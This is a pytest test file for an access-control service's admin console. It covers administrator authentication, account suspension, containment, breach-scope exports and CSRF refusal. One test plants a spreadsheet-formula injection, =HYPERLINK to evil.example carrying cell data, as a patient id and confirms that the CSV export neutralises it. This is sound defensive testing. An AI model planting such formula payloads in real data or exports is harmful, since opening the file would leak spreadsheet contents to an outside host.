"""The admin console through the real middleware: who may, each action's effect, its trace, and the CLI's figures."""

from __future__ import annotations

import dataclasses
import html
import json
import sqlite3
import time
from contextlib import closing
from pathlib import Path
from typing import Any

import httpx
import pytest

from accessguard.audit.reviews import declare_emergency
from accessguard.containment import resume, suspend
from accessguard.errors import ConfigurationError
from tests.audit_support import run_cli
from tests.authenticators import assertion, enrolled_key, key_session, reasons, redeem_link
from tests.conftest import CAEN, Demo

HTML = {"accept": "text/html"}
ACTIONS = {
    "/accessguard/admin/revoke": {"account": "inf.dubois", "authenticator": None},
    "/accessguard/admin/suspend": {"account": "inf.dubois", "reason": "test"},
    "/accessguard/admin/resume": {"account": "inf.dubois"},
    "/accessguard/admin/reset-password": {"account": "inf.dubois"},
    "/accessguard/admin/enrolment-link": {"account": "inf.dubois", "kind": "webauthn"},
    "/accessguard/admin/contain": {"enrolled_after": "0", "confirm": True, "expect": []},
    "/accessguard/admin/reviews/close": {"review": "x", "note": "n"},
}


def _admin(demo: Demo) -> httpx.Client:
    return key_session(demo, "admin", enrolled_key(demo, "admin"))


def _events(demo: Demo, event: str) -> list[tuple[str, dict[str, Any]]]:
    """(subject, detail) of the access log's events named ``event``."""
    demo.guard.access_log.flush()
    with closing(sqlite3.connect(demo.guard.access_log.log_location)) as db:  # type: ignore[arg-type]  # the demo: audit.db
        rows = db.execute("SELECT subject, detail FROM entries WHERE kind = 'event'").fetchall()
    return [(subject, d) for subject, detail in rows if (d := json.loads(detail)).get("event") == event]


def test_every_action_needs_an_administrator_with_a_fresh_security_key(asgi_demo: Demo) -> None:
    doctor = key_session(asgi_demo, "dr.martin", enrolled_key(asgi_demo, "dr.martin"))
    admin_totp = asgi_demo.login("admin")
    for path, body in ACTIONS.items():
        assert reasons(asgi_demo.client().post(path, json=body)) == ["authentication_required"], path
        assert reasons(doctor.post(path, json=body)) == ["admin_required"], path
        assert reasons(admin_totp.post(path, json=body)) == ["phishing_resistant_required"], path
    for page in ("/accessguard/admin", "/accessguard/admin/account?id=dr.martin", "/accessguard/admin/audit"):
        assert doctor.get(page, headers=HTML).status_code == 403
        assert admin_totp.get(page, headers=HTML, follow_redirects=False).headers["location"].startswith("/accessguard/step-up?")
    assert asgi_demo.guard.authenticators.of_account("inf.dubois", states=("active",))  # nothing was done


def test_a_security_key_verified_more_than_15_minutes_ago_administers_nothing_until_verified_again(asgi_demo: Demo) -> None:
    key = enrolled_key(asgi_demo, "admin")
    admin = key_session(asgi_demo, "admin", key)
    assert admin.post("/accessguard/admin/contain", json={"enrolled_after": "1h"}).status_code == 200  # fresh: a preview
    asgi_demo.clock.advance(15 * 60 + 1)
    for path, body in ACTIONS.items():
        assert reasons(admin.post(path, json=body)) == ["phishing_resistant_required"], path
    for page in ("/accessguard/admin", "/accessguard/admin/scope?subject=dr.martin&since=1h&format=csv"):
        stale = admin.get(page, headers=HTML, follow_redirects=False)
        assert stale.status_code == 303 and stale.headers["location"].startswith("/accessguard/step-up?"), page
    assert not _events(asgi_demo, "breach_scope_read")
    assert assertion(admin, key).status_code == 200
    assert admin.post("/accessguard/admin/contain", json={"enrolled_after": "1h"}).status_code == 200


def test_an_open_console_or_own_page_acts_no_more_once_its_account_is_suspended(asgi_demo: Demo) -> None:
    """The tab stays open in the browser; its session does not survive the suspension, nor the resume."""
    guard = asgi_demo.guard
    admin = _admin(asgi_demo)
    nurse = asgi_demo.login("inf.dubois")
    app = guard.authenticators.of_account("inf.dubois", "totp", ("active",))[0].id
    for account in ("admin", "inf.dubois"):
        suspend(guard.accounts, guard.authenticators, guard.store, guard.access_log, account, "compromised", operator="soc")
    assert reasons(admin.post("/accessguard/admin/suspend", json={"account": "dr.martin", "reason": "x"})) == ["authentication_required"]
    assert reasons(nurse.post("/accessguard/account/report-lost", json={"authenticator": app})) == ["authentication_required"]
    for account in ("admin", "inf.dubois"):
        resume(guard.accounts, guard.store, guard.access_log, account, operator="soc")
    assert reasons(admin.post("/accessguard/admin/suspend", json={"account": "dr.martin", "reason": "x"})) == ["authentication_required"]
    assert admin.get("/accessguard/admin", headers=HTML, follow_redirects=False).headers["location"].startswith("/login?")
    assert nurse.get("/accessguard/account", headers=HTML, follow_redirects=False).headers["location"].startswith("/login?")
    assert guard.accounts.get("dr.martin").status == "active"  # type: ignore[union-attr]


def test_revoking_a_stolen_key_ends_the_session_the_thief_verified_it_in(asgi_demo: Demo) -> None:
    """Reported lost, revoked by an administrator: the thief's session, where the key still counted for 15 minutes, ends."""
    stolen = enrolled_key(asgi_demo, "dr.martin")
    thief = key_session(asgi_demo, "dr.martin", stolen)
    [held] = asgi_demo.guard.authenticators.of_account("dr.martin", "webauthn", ("active",))
    admin = _admin(asgi_demo)
    revoked = admin.post("/accessguard/admin/revoke", json={"account": "dr.martin", "authenticator": held.id})
    assert revoked.status_code == 200 and revoked.json()["sessions_ended"] == 1
    refused = thief.post("/accessguard/enroll/totp/begin", json={"label": "mine now"})  # a new factor, to stay
    assert (refused.status_code, reasons(refused)) == (401, ["authentication_required"])
    assert [a.label for a in asgi_demo.guard.authenticators.of_account("dr.martin", "totp")] == ["demo authenticator app"]
    assert admin.get("/accessguard/admin", headers=HTML).status_code == 200  # the administrator's own session goes on


def test_accounts_are_searched_and_filtered(asgi_demo: Demo) -> None:
    admin = _admin(asgi_demo)

    def listed(query: str) -> set[str]:
        page = admin.get(f"/accessguard/admin?{query}", headers=HTML)
        assert page.status_code == 200
        return {line.split('"')[0] for line in page.text.split('href="/accessguard/admin/account?id=')[1:]}

    everyone = {"dr.martin", "dr.bernard", "inf.dubois", "inf.leroy", "sec.moreau", "dr.garcia", "admin"}
    assert listed("") == everyone
    assert listed("q=DR.") == {"dr.martin", "dr.bernard", "dr.garcia"}
    assert listed("role=nurse") == {"inf.dubois", "inf.leroy"}
    assert listed("organisation=chu-caen&role=doctor") == {"dr.martin"}
    assert listed("factors=webauthn") == {"admin"}
    assert listed("factors=none") == set()
    assert listed("status=suspended") == set()
    assert admin.post("/accessguard/admin/suspend", json={"account": "sec.moreau", "reason": "phished"}).status_code == 200
    assert listed("status=suspended") == {"sec.moreau"}
    assert "2 of 7 accounts" in admin.get("/accessguard/admin?role=nurse", headers=HTML).text


def test_suspend_and_resume_with_a_reason_in_the_log_under_the_administrator(asgi_demo: Demo) -> None:
    admin = _admin(asgi_demo)
    doctor = asgi_demo.login("dr.martin")
    assert doctor.get("/patients/pat-0001", headers={"x-forwarded-for": CAEN}).status_code == 200
    suspended = admin.post("/accessguard/admin/suspend", json={"account": "dr.martin", "reason": "credentials phished"})
    assert suspended.status_code == 200 and suspended.json()["message"].startswith("Suspended dr.martin: sessions ended: 1.")
    assert doctor.get("/patients/pat-0001", headers={"x-forwarded-for": CAEN}).status_code in (401, 403)
    [(subject, detail)] = _events(asgi_demo, "account_suspended")
    assert (subject, detail["reason"], detail["operator"]) == ("dr.martin", "credentials phished", "admin")
    page = admin.get("/accessguard/admin/account?id=dr.martin", headers=HTML).text
    assert 'id="resume"' in page and "Resume dr.martin" in page and 'id="suspend"' not in page
    assert admin.post("/accessguard/admin/resume", json={"account": "dr.martin"}).status_code == 200
    [(_, resumed)] = _events(asgi_demo, "account_resumed")
    assert resumed["operator"] == "admin"
    assert asgi_demo.login("dr.martin").get("/patients/pat-0001", headers={"x-forwarded-for": CAEN}).status_code == 200
    own = admin.post("/accessguard/admin/suspend", json={"account": "admin", "reason": "oops"})
    assert (own.status_code, reasons(own)) == (409, ["own_account"])
    assert admin.post("/accessguard/admin/suspend", json={"account": "nobody", "reason": "x"}).status_code == 404
    assert admin.post("/accessguard/admin/suspend", json={"account": "dr.martin"}).status_code == 400  # no reason
    bad = admin.post("/accessguard/admin/suspend", json={"account": "dr.martin", "reason": "x", "revoke_authenticators": "yes"})
    assert bad.status_code == 400 and "revoke_authenticators" in bad.json()["detail"]


def test_an_enrolment_link_is_issued_at_the_public_url_with_a_qr_code(asgi_demo: Demo) -> None:
    admin = _admin(asgi_demo)
    issued = admin.post("/accessguard/admin/enrolment-link", json={"account": "inf.dubois", "kind": "totp", "ttl_minutes": "30"})
    assert issued.status_code == 200, issued.text
    link = issued.json()["link"]
    assert link.startswith("http://localhost/accessguard/enroll?token=")  # Settings.public_url, never the request's Host
    assert "<svg" in issued.json()["qr_svg"]
    assert redeem_link(asgi_demo.client(), link).status_code == 200
    for body in ({"account": "inf.dubois", "kind": "password"}, {"account": "inf.dubois", "kind": "totp", "ttl_minutes": 0}):
        assert admin.post("/accessguard/admin/enrolment-link", json=body).status_code == 400
    admin.post("/accessguard/admin/suspend", json={"account": "inf.dubois", "reason": "left"})
    refused = admin.post("/accessguard/admin/enrolment-link", json={"account": "inf.dubois", "kind": "webauthn"})
    assert (refused.status_code, reasons(refused)) == (409, ["account_suspended"])


def test_password_reset_hands_out_a_link_and_ends_the_password(asgi_demo: Demo) -> None:
    admin = _admin(asgi_demo)
    reset = admin.post("/accessguard/admin/reset-password", json={"account": "sec.moreau"})
    assert reset.status_code == 200
    assert reset.json()["link"].startswith("http://localhost/accessguard/password/reset?token=")
    pro = asgi_demo.accounts["sec.moreau"]
    assert asgi_demo.client().post("/login", json={"username": pro.username, "password": pro.password}).status_code == 401


def test_containment_is_previewed_then_confirmed_for_the_accounts_previewed(asgi_demo: Demo) -> None:
    asgi_demo.clock.advance(max(0.0, time.time() - asgi_demo.clock.now) + 60)  # past the demo's own enrolments (real time)
    admin = _admin(asgi_demo)
    asgi_demo.clock.advance(60)
    window = str(int(asgi_demo.clock.now))
    asgi_demo.clock.advance(60)
    enrolled_key(asgi_demo, "dr.martin")
    waiting = admin.post("/accessguard/admin/enrolment-link", json={"account": "dr.martin", "kind": "totp"}).json()["link"]
    preview = admin.post("/accessguard/admin/contain", json={"enrolled_after": window})
    assert preview.json() == {
        "enrolled_after": float(window),
        "accounts": ["dr.martin"],
        "authenticators": 1,
        "recovery_codes": 10,
        "own_account": False,
    }
    assert asgi_demo.guard.authenticators.of_account("dr.martin", "webauthn", ("active",))  # a preview changes nothing
    stale = admin.post("/accessguard/admin/contain", json={"enrolled_after": window, "confirm": True, "expect": ["dr.martin", "x"]})
    assert (stale.status_code, reasons(stale)) == (409, ["containment_changed"])
    assert asgi_demo.guard.authenticators.of_account("dr.martin", "webauthn", ("active",))
    done = admin.post("/accessguard/admin/contain", json={"enrolled_after": window, "confirm": True, "expect": ["dr.martin"]})
    assert done.status_code == 200 and done.json()["contained"] == ["dr.martin"]
    assert asgi_demo.guard.authenticators.of_account("dr.martin", "webauthn", ("contained",))
    assert redeem_link(asgi_demo.client(), waiting).status_code == 410  # a link not used yet is a foothold too
    assert admin.get("/accessguard/admin", headers=HTML).status_code == 200  # the administrator's own key was older
    bad = admin.post("/accessguard/admin/contain", json={"enrolled_after": "last tuesday"})
    assert bad.status_code == 400 and "not a time" in bad.json()["detail"]


def test_breach_scope_gives_the_command_line_figures_and_is_logged(asgi_demo: Demo) -> None:
    nurse = asgi_demo.login("inf.dubois")
    start = int(asgi_demo.clock.now) - 1
    for path in ("/patients/pat-0001", "/patients?limit=5", "/patients/pat-0001"):
        assert nurse.get(path, headers={"x-forwarded-for": CAEN}).status_code == 200
    asgi_demo.clock.advance(60)
    admin = _admin(asgi_demo)
    asgi_demo.guard.access_log.flush()
    data_dir = str(asgi_demo.guard.settings.data_dir)
    until = str(int(asgi_demo.clock.now))
    query = f"subject=inf.dubois&since={start}&until={until}"
    for form in ("json", "csv"):
        code, out, err = run_cli(
            "audit", "scope", "--data-dir", data_dir, "--subject", "inf.dubois", "--since", str(start), "--until", until, "--format", form
        )
        assert code == 0, err
        download = admin.get(f"/accessguard/admin/scope?{query}&format={form}")
        assert download.status_code == 200 and "attachment" in download.headers["content-disposition"]
        assert download.text.strip() == out.strip()
    page = admin.get(f"/accessguard/admin/scope?{query}", headers=HTML)
    assert "5 patients, 7 identity records served to inf.dubois" in page.text
    assert "<td>pat-0001</td><td>3</td>" in page.text
    logged = _events(asgi_demo, "breach_scope_read")
    assert [(s, d["account"], d["format"]) for s, d in logged] == [
        ("admin", "inf.dubois", "json"),
        ("admin", "inf.dubois", "csv"),
        ("admin", "inf.dubois", "table"),
    ]
    for bad in ("subject=inf.dubois&since=soon", f"subject=inf.dubois&since={until}&until={start}", f"{query}&format=xml"):
        assert admin.get(f"/accessguard/admin/scope?{bad}", headers=HTML).status_code == 400
    assert admin.get(f"/accessguard/admin/scope?subject=nobody&since={start}", headers=HTML).status_code == 404


def test_a_patient_id_that_is_a_spreadsheet_formula_is_inert_in_the_breach_scope_download(asgi_demo: Demo) -> None:
    """A patient record is the service's data: an id like ``=HYPERLINK(…)`` must not run when the DPO opens the CSV."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with closing(sqlite3.connect(Path(asgi_demo.guard.settings.data_dir) / "patients.db")) as db, db:
        db.execute(
            "INSERT INTO patients SELECT ?, ins, first_name, ?, birth_date, phone, email FROM patients WHERE id = 'pat-0001'",
            (formula, "<b>Zzhostile</b>"),
        )
    nurse = asgi_demo.login("inf.dubois")
    start = int(asgi_demo.clock.now) - 1
    served = nurse.get("/patients?q=<b>Zzhostile", headers={"x-forwarded-for": CAEN})
    assert served.status_code == 200 and [p["id"] for p in served.json()["patients"]] == [formula]
    asgi_demo.clock.advance(60)
    admin = _admin(asgi_demo)
    asgi_demo.guard.access_log.flush()
    query = f"subject=inf.dubois&since={start}"
    [heading, row] = admin.get(f"/accessguard/admin/scope?{query}&format=csv").text.splitlines()
    assert heading == "patient,count,first,last"
    assert row.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,')  # text to a spreadsheet, not a formula
    assert admin.get(f"/accessguard/admin/scope?{query}&format=json").json()[0]["patient"] == formula  # JSON keeps the id as is
    assert html.escape(formula) in admin.get(f"/accessguard/admin/scope?{query}", headers=HTML).text


def test_audit_page_verifies_the_log_lists_reviews_and_alerts_and_closes_a_review(asgi_demo: Demo) -> None:
    admin = _admin(asgi_demo)
    declaration = declare_emergency(asgi_demo.guard.access_log, "dr.martin", "pat-0042", "unconscious patient", None)
    page = admin.get("/accessguard/admin/audit", headers=HTML)
    assert page.status_code == 200
    assert "<strong>verified</strong>: ok:" in page.text
    assert "Emergency reviews (1 open)" in page.text and "pat-0042" in page.text
    assert f"Close review {declaration.id} of dr.martin" in page.text
    assert "enrolment_link_issued" in page.text  # the administrator's own enrolment, with its delivery state
    closed = admin.post("/accessguard/admin/reviews/close", json={"review": declaration.id, "note": "justified:\nER admission"})
    assert closed.status_code == 200
    [(_, detail)] = _events(asgi_demo, "review_closed")
    assert (detail["by"], detail["note"]) == ("admin", "justified:\nER admission")
    assert "Emergency reviews (0 open)" in admin.get("/accessguard/admin/audit", headers=HTML).text
    again = admin.post("/accessguard/admin/reviews/close", json={"review": declaration.id, "note": "again"})
    assert (again.status_code, reasons(again)) == (404, ["unknown_review"])


@pytest.mark.parametrize("path", sorted(ACTIONS))
def test_console_actions_refuse_cross_site_posts(asgi_demo: Demo, path: str) -> None:
    admin = _admin(asgi_demo)
    response = admin.post(path, json=ACTIONS[path], headers={"origin": "https://evil.example"})
    assert (response.status_code, reasons(response)) == (403, ["cross_site_request"])


@pytest.mark.parametrize("url", ["ftp://annuaire.example.fr", "https://", "https://annuaire.example.fr/?next=x", "annuaire.example.fr"])
def test_a_public_url_that_is_no_address_is_refused_at_start_up(asgi_demo: Demo, url: str) -> None:
    settings = dataclasses.replace(asgi_demo.guard.settings, public_url=url)
    with pytest.raises(ConfigurationError, match="public_url"):
        settings.validate()


def test_dashboard_shows_decisions_refusals_and_readers_against_their_usual_day(asgi_demo: Demo) -> None:
    nurse = asgi_demo.login("inf.dubois")
    assert nurse.get("/patients?limit=7", headers={"x-forwarded-for": CAEN}).status_code == 200  # the usual day, 3 days ago
    asgi_demo.clock.advance(3 * 86400)
    nurse = asgi_demo.login("inf.dubois")
    for n in range(1, 10):
        assert nurse.get(f"/patients/pat-000{n}", headers={"x-forwarded-for": CAEN}).status_code == 200
    assert nurse.get("/patients?limit=500", headers={"x-forwarded-for": CAEN}).status_code == 403  # page_too_large
    asgi_demo.guard.access_log.flush()
    admin = _admin(asgi_demo)
    page = admin.get("/accessguard/admin/dashboard", headers=HTML)
    assert page.status_code == 200
    text = page.text
    assert text.count('<svg class="chart" role="img" aria-label=') >= 5  # two decision charts, their legends, reasons, readers
    assert "<td>inf.dubois</td><td>9</td><td>1.0</td>" in text  # 9 today against 7 over the 7 days before
    assert "<td>page_too_large</td><td>1</td>" in text
    assert "Decisions per hour, last 24 hours: 9 allowed" in text  # the 24 h chart's accessible name carries its totals
    assert "Decisions per hour, last 7 days: 10 allowed" in text


def test_resume_waits_for_a_new_password_after_every_credential_was_revoked(asgi_demo: Demo) -> None:
    admin = _admin(asgi_demo)
    done = admin.post("/accessguard/admin/suspend", json={"account": "inf.leroy", "reason": "phished", "revoke_authenticators": True})
    assert done.status_code == 200 and "password is taken away" in done.json()["message"]
    assert not asgi_demo.guard.authenticators.of_account("inf.leroy", states=("active",))
    refused = admin.post("/accessguard/admin/resume", json={"account": "inf.leroy"})
    assert (refused.status_code, reasons(refused)) == (409, ["password_not_reset"])
    assert "give back the old password" in refused.json()["detail"]
    assert admin.post("/accessguard/admin/resume", json={"account": "inf.leroy", "keep_password": True}).status_code == 200
